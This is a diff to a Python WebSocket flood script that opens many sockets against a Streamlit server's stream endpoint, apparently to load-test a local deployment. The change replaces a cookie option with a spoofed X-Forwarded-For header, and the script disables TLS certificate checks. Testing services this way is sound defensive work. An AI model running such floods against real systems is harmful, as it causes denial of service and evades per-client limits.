@@ -1,7 +1,8 @@
 """A flood of WebSockets, in a process of its own: `python flood.py URL KIND SOCKETS SECONDS`.
 
 Sockets are raw and their frames are built once, so that the attacker costs little of the machine it shares with its
-victim. At the end it writes how many sockets were opened, refused and closed.
+victim. FLOOD_ADDRESS is where a proxy on this machine says it comes from. At the end it writes how many sockets were
+opened, refused and closed.
 """
 
 from __future__ import annotations
@@ -73,10 +74,10 @@ _KINDS = {
 class Flood:
     """So many sockets, each opened anew as soon as it is closed."""
 
-    def __init__(self, url: str, kind: str, seconds: float, cookie: str) -> None:
+    def __init__(self, url: str, kind: str, seconds: float, address: str) -> None:
         where = urlsplit(url)
         self._host, self._port = where.hostname or "", where.port or 443
-        self._origin, self._cookie = url, cookie
+        self._origin, self._address = url, address
         # an attacker trusts anybody
         self._tls = ssl._create_unverified_context() if where.scheme == "https" else None  # noqa: S323
         self._kind = kind
@@ -126,12 +127,12 @@ class Flood:
             self._wait(line)
 
     def _shake_hands(self, line: socket.socket) -> bytes:
-        cookie = f"Cookie: {self._cookie}\r\n" if self._cookie else ""
+        proxy = f"X-Forwarded-For: {self._address}\r\n" if self._address else ""
         line.settimeout(60)
         line.sendall(
             f"GET /_stcore/stream HTTP/1.1\r\nHost: {self._host}:{self._port}\r\nUpgrade: websocket\r\n"
             f"Connection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n"
-            f"Origin: {self._origin}\r\n{cookie}Sec-WebSocket-Protocol: streamlit\r\n\r\n".encode()
+            f"Origin: {self._origin}\r\n{proxy}Sec-WebSocket-Protocol: streamlit\r\n\r\n".encode()
         )
         return line.recv(4096)
 
@@ -153,7 +154,7 @@ class Flood:
 
 def main(url: str, kind: str, sockets: str, seconds: str) -> None:
     """Attack, then tell."""
-    flood = Flood(url, kind, float(seconds), os.environ.get("FLOOD_COOKIE", ""))
+    flood = Flood(url, kind, float(seconds), os.environ.get("FLOOD_ADDRESS", ""))
     threads = [threading.Thread(target=flood.run, daemon=True) for _ in range(int(sockets))]
     for thread in threads:
         thread.start()
